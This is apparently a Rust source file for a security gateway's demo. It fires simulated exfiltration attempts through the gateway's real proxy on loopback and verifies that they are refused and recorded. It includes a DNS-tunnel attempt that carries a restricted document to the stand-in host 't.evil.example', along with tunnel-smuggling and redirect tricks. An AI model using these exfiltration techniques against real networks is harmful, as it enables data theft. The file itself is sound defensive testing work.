//! `backstop demo`: the main job in one command, on real sockets.
//!
//! ```text
//!  skill ──▶ the real proxy ──▶ the real gate ──▶ net (names, addresses) ──▶ servers
//!  (attacks: what is tried)                                                 honest · attacker
//! ```
//! The gate, the ledger and the proxy are those of `serve`. Only the outside world is the demo's:
//! names resolve to public-looking addresses, and these lead to servers on loopback.

mod attacks;
mod net;
mod report;
mod servers;
mod skill;
mod tunnel;

use crate::cli::Format;
use crate::commands::canary::whole;
use crate::config::{Config, Resolved};
use crate::detection::corpus_file;
use crate::run::{LookUps, Running, Surroundings};
use anyhow::{Context, Result, ensure};
use attacks::{ATTACKS, Attack, How};
use backstop_detect::corpus::{Corpus, Document, Terms};
use backstop_gate::{Actor, Gate, OsRandom, Random as _, SessionRequest};
use backstop_ledger::Ledger;
use backstop_model::control::Control;
use backstop_model::event::Fact;
use backstop_model::id::{ReceiptId, SessionId, SkillName, SkillVersion, TenantName};
use backstop_model::redacted::Redacted;
use backstop_model::standing::Quarantined;
use backstop_policy::Source;
use report::{Report, Row};
use skill::{Reply, Skill};
use std::fs::OpenOptions;
use std::io::Write as _;
use std::os::unix::fs::OpenOptionsExt as _;
use std::process::ExitCode;
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const POLICY: &str = include_str!("policy.yaml");
/// What the gateway knows as a document that must not leave: by fingerprints alone.
const PLAN: &str = include_str!("plan.md");
/// The host that is reached by plain HTTP, so that bodies can be looked at.
const PLAIN: &str = "plain.weather.example";
/// What the gateway knows as its own: the key of the forecast service.
const CANARIES: &str = "forecast-key=dk-Zq81LmX4tRvB7nWs2Kc9\n";
const HONEST_NAMES: &[&str] = &["api.weather.example", "plain.weather.example", "rebind.example"];

/// Runs the demo and prints its report.
///
/// # Errors
/// Where the demo's own surroundings fail (no free port, no temporary folder).
pub(crate) async fn run(format: Format) -> Result<ExitCode> {
    let folder = tempfile::tempdir().context("no temporary folder for the demo's ledger")?;
    let report = scenario(folder.path()).await?;
    report.print(format)?;
    Ok(if report.held { ExitCode::SUCCESS } else { ExitCode::from(1) })
}

async fn scenario(folder: &std::path::Path) -> Result<Report> {
    let servers = servers::start(HONEST_NAMES).await?;
    let names = Arc::new(net::Names::default());
    let world = net::World { https: servers.https, http: servers.http, attacker: servers.attacker };
    let (received, visits) = (Arc::clone(&servers.received), Arc::clone(&servers.visits));
    let name_server = tunnel::name_server(HONEST_NAMES, received, visits).await?;
    let config = config(folder, name_server.address)?;
    register(&config)?;
    let policy = Source { name: "demo/policy.yaml".to_owned(), text: POLICY.to_owned() };
    let surroundings = Surroundings {
        resolver: Arc::clone(&names) as _,
        look_ups: LookUps::Given,
        wire: Arc::new(world),
    };
    let running = Running::start(&config, surroundings, vec![policy]).await?;
    let gate = running.gate().clone();
    let operator = operator(&gate, &config)?;
    let opened = gate
        .control()
        .open_session(
            &operator,
            SessionRequest {
                tenant: TenantName::parse("research")?,
                role: None,
                skills: vec![(SkillName::parse("weather")?, SkillVersion::parse("1.2.0")?)],
                ceiling: None,
                lives: None,
            },
        )
        .await
        .context("the demo's session was refused")?;
    let (_, token) = opened.tokens.first().context("the session has no token")?;
    let credential = format!("Bearer {}", token.expose());
    let proxy = *running.proxies().first().context("the demo's gateway has no proxy")?;
    let skill = Skill { proxy, credential: Some(credential), roots: Arc::clone(&servers.roots) };

    let mut rows = Vec::new();
    for attack in ATTACKS {
        rows.push(attempt(&skill, attack, running.ledger()).await?);
    }
    rows.extend(by_names(&running).await?);
    rows.extend(quarantine(&skill, &gate, &operator, &opened.id).await?);

    let leaked: Vec<String> = names
        .asked()
        .into_iter()
        .filter(|name| !HONEST_NAMES.contains(&name.as_str()) && name != "inside.example")
        .collect();
    running.stop(Duration::from_secs(5), std::future::pending()).await?;
    let directory = crate::commands::ledger::directory(&config);
    let verified =
        backstop_ledger::Reader::open(&directory).map_err(anyhow::Error::from).and_then(|reader| {
            reader.verify(&backstop_ledger::VerifyOptions::default()).map_err(anyhow::Error::from)
        });
    let bytes = servers.received.load(Ordering::SeqCst);
    let visits = servers.visits.load(Ordering::SeqCst);
    let ledger_ok = verified.is_ok();
    let held =
        rows.iter().all(Row::held) && bytes == 0 && visits == 0 && leaked.is_empty() && ledger_ok;
    Ok(Report {
        held,
        attacker_bytes: bytes,
        attacker_visits: visits,
        leaked_names: leaked,
        ledger_ok,
        rows,
    })
}

/// What is tried by looking names up alone: no connection, no proxy.
async fn by_names(running: &Running) -> Result<Vec<Row>> {
    let resolver =
        *running.resolvers().plain.first().context("the demo's gateway has no resolver")?;
    let undeclared = "DNS tunnel: a document in 40 look-ups";
    let wildcard = "DNS tunnel below a wildcard row";
    Ok(vec![
        tunnel::honest(resolver, "api.weather.example", running.ledger()).await?,
        tunnel::carry(resolver, undeclared, PLAN, "t.evil.example").await?,
        tunnel::carry(resolver, wildcard, PLAN, "tiles.example").await?,
    ])
}

/// The operator, by the token that the gateway made on its first start.
fn operator(gate: &Gate, config: &Config) -> Result<Actor> {
    let file = crate::commands::remote::token_file(&config.state);
    let token = std::fs::read_to_string(&file)
        .with_context(|| format!("cannot read `{}`", file.display()))?;
    gate.authenticate(&Redacted::new("operator token", token.trim().to_owned()))
        .map_err(|refusal| anyhow::anyhow!("the operator was refused: {}", refusal.reason))
}

/// The configuration of a gateway that nobody else can reach: free ports, a folder of its own.
fn config(folder: &std::path::Path, name_server: std::net::SocketAddr) -> Result<Config> {
    let set = |key: &str, value: &str| format!("{key}={value}");
    let canaries = folder.join("canaries");
    let mut file = OpenOptions::new()
        .write(true)
        .create_new(true)
        .mode(0o600)
        .open(&canaries)
        .context("cannot write the demo's canaries")?;
    file.write_all(CANARIES.as_bytes())?;
    let flags = [
        set("secrets.canaries", &canaries.display().to_string()),
        set("state", &folder.display().to_string()),
        set("proxy.listen", "127.0.0.1:0"),
        set("api.listen", "127.0.0.1:0"),
        set("dns.listen", "127.0.0.1:0"),
        set("dns.upstreams", &name_server.to_string()),
        set("dns.clients", "127.0.0.0/8=research/weather@1.2.0"),
    ];
    Config::parse(&Resolved::from_table(&flags)?)
}

/// Registers [`PLAN`] as `backstop corpus add --level restricted plan.md` would.
fn register(config: &Config) -> Result<()> {
    let mut seed = [0; 8];
    OsRandom.fill(&mut seed)?;
    let mut corpus = Corpus::builder(u64::from_le_bytes(seed), Terms::default());
    let plan = Document { id: "plan.md".into(), level: "restricted".into() };
    corpus.document(plan, PLAN)?;
    whole(&corpus_file(config), |out| corpus.finish().write(out))
}

/// Makes one attempt and reads off what came of it.
async fn attempt(skill: &Skill, attack: &Attack, ledger: &Ledger) -> Result<Row> {
    let begin = Instant::now();
    let reply = perform(skill, attack.how)
        .await
        .with_context(|| format!("the attempt `{}`", attack.name))?;
    let micros = begin.elapsed().as_micros();
    // What is refused inside a tunnel reaches the client as a TLS alert: the record has the rest.
    let reply = match (reply.status, &reply.receipt) {
        (0, Some(receipt)) => refused_later(ledger, receipt).await?,
        _ => reply,
    };
    Ok(Row {
        attack: attack.name,
        expect: if attack.refused_by.is_some() { "deny" } else { "allow" },
        expect_control: attack.refused_by.map(Control::as_str),
        verdict: if (200..400).contains(&reply.status) { "allow" } else { "deny" },
        control: reply.control,
        receipt: reply.receipt,
        micros,
    })
}

async fn perform(skill: &Skill, how: How) -> Result<Reply> {
    match how {
        How::Https { authority, sni } => {
            let (proxy, inner) = skill.https(authority, sni, "/points/1").await?;
            Ok(match inner {
                Some(inner) => Reply { receipt: proxy.receipt, ..inner },
                None if proxy.status == 200 => Reply { status: 0, ..proxy },
                None => proxy,
            })
        }
        How::Bytes { authority, bytes } => in_tunnel(skill, authority, bytes).await,
        How::Ech { authority, sni } => {
            in_tunnel(skill, authority, &skill::hello_with_ech(sni)).await
        }
        How::Get { target, host } => {
            let reply = skill.get(target, host).await?;
            match &reply.location {
                // A naive client follows the redirect: the next request is judged by itself.
                Some(next) => {
                    let host = next.split('/').nth(2).unwrap_or_default().to_owned();
                    skill.get(&next.clone(), &host).await
                }
                None => Ok(reply),
            }
        }
        How::Post { body } => {
            let head = format!(
                "POST http://{PLAIN}/forecasts HTTP/1.1\r\nHost: {PLAIN}\r\n{}\
                 Content-Type: application/json\r\nContent-Length: {}\r\n\
                 Connection: close\r\n\r\n{body}",
                skill.header(),
                body.len()
            );
            Ok(skill.raw(head.as_bytes()).await?.0)
        }
        How::Raw { head } => {
            Ok(skill.raw(head.replace("{auth}", &skill.header()).as_bytes()).await?.0)
        }
        How::Stranger { authority } => {
            let stranger =
                Skill { proxy: skill.proxy, credential: None, roots: Arc::clone(&skill.roots) };
            Ok(stranger.connect(authority).await?.0)
        }
    }
}

/// Opens a tunnel, sends bytes that are no honest ClientHello, and waits for the end.
async fn in_tunnel(skill: &Skill, authority: &str, bytes: &[u8]) -> Result<Reply> {
    let (reply, mut stream) = skill.connect(authority).await?;
    if reply.status != 200 {
        return Ok(reply);
    }
    stream.write_all(bytes).await?;
    let mut answer = Vec::new();
    let _ended =
        tokio::time::timeout(Duration::from_secs(5), stream.read_to_end(&mut answer)).await;
    // 22 is a TLS handshake record: the upstream would have answered.
    Ok(if answer.first() == Some(&22) { reply } else { Reply { status: 0, ..reply } })
}

/// The refusal that followed a permit, or a permit that tightened it, from the record.
///
/// Refusals answer before they are on record, so this waits for the record a while.
async fn refused_later(ledger: &Ledger, permit: &str) -> Result<Reply> {
    let permit = ReceiptId::parse(permit)?;
    let mut tail = ledger.tail();
    let deadline = tokio::time::Instant::now() + Duration::from_secs(5);
    loop {
        if let Some(reply) = refusal_of(ledger, &permit)? {
            return Ok(reply);
        }
        if !matches!(tokio::time::timeout_at(deadline, tail.recv()).await, Ok(Ok(_))) {
            return Ok(Reply::default());
        }
    }
}

fn refusal_of(ledger: &Ledger, permit: &ReceiptId) -> Result<Option<Reply>> {
    let mut permits = vec![permit.clone()];
    for recorded in ledger.events_after(0, usize::MAX)? {
        let event = recorded.event;
        if let Fact::AttemptPermitted { refines: Some(earlier), .. } = &event.fact {
            if permits.contains(earlier) {
                permits.push(event.receipt);
            }
        } else if let Fact::AttemptRefused { control, refines: Some(earlier), .. } = &event.fact
            && permits.contains(earlier)
        {
            return Ok(Some(Reply {
                receipt: Some(event.receipt.to_string()),
                control: Some(control.as_str().to_owned()),
                ..Reply::default()
            }));
        }
    }
    Ok(None)
}

/// The last act: an operator stops the session; a live tunnel is cut and nothing more passes.
async fn quarantine(
    skill: &Skill,
    gate: &Gate,
    operator: &Actor,
    session: &SessionId,
) -> Result<Vec<Row>> {
    let (reply, stream) = skill.connect("api.weather.example:443").await?;
    ensure!(reply.status == 200, "the tunnel that quarantine is to cut was not opened");
    let mut tls = skill.tls(stream, "api.weather.example").await?;
    let begin = Instant::now();
    gate.control()
        .quarantine(operator, Quarantined::Session(session.clone()), "the demo's hijacked skill")
        .await
        .context("the quarantine was refused")?;
    let mut byte = [0; 1];
    let cut = tokio::time::timeout(Duration::from_secs(2), tls.read(&mut byte)).await;
    let cut = matches!(cut, Ok(Ok(0) | Err(_)));
    let live = Row {
        attack: "live tunnel when the session is quarantined",
        expect: "deny",
        expect_control: None,
        verdict: if cut { "deny" } else { "allow" },
        control: cut.then(|| Control::Quarantine.as_str().to_owned()),
        receipt: reply.receipt,
        micros: begin.elapsed().as_micros(),
    };
    let begin = Instant::now();
    let (after, _) = skill.connect("api.weather.example:443").await?;
    let after = Row {
        attack: "honest host, session in quarantine",
        expect: "deny",
        expect_control: Some(Control::Quarantine.as_str()),
        verdict: if after.status == 200 { "allow" } else { "deny" },
        control: after.control,
        receipt: after.receipt,
        micros: begin.elapsed().as_micros(),
    };
    Ok(vec![live, after])
}
